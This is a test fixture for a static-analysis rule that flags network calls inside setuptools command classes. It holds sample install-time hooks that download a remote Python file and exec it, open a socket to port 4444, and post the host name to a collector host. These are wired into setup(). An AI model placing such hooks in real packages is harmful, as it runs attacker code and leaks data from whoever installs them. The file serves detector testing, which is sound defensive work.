"""Fixture for py-setup-command-network.

RULEID: an install command class that fetches a URL; a develop command that opens a socket;
  an egg_info subclass using requests via a from-import.
OK: a build_ext that runs cmake (no network); a network call in an ordinary class; an install
  command that only prints.
"""

import socket
import subprocess
import urllib.request

from requests import post
from setuptools import setup
from setuptools.command.build_ext import build_ext
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        # ruleid: py-setup-command-network
        payload = urllib.request.urlopen("http://203.0.113.7/p.py").read()
        exec(payload)


class PostDevelop(develop):
    def run(self):
        # ruleid: py-setup-command-network
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("203.0.113.7", 4444))
        develop.run(self)


class Info(egg_info):
    def run(self):
        # ruleid: py-setup-command-network
        post("https://collector.example.net/x", data={"h": socket.gethostname()})
        egg_info.run(self)


class CMakeBuild(build_ext):
    def run(self):
        # ok: py-setup-command-network
        subprocess.check_call(["cmake", "--build", "."])


class Client:
    def fetch(self):
        # ok: py-setup-command-network
        return urllib.request.urlopen("https://example.com").read()


class Quiet(install):
    def run(self):
        # ok: py-setup-command-network
        print("installing")
        install.run(self)


setup(name="x", cmdclass={"install": PostInstall, "develop": PostDevelop, "egg_info": Info})
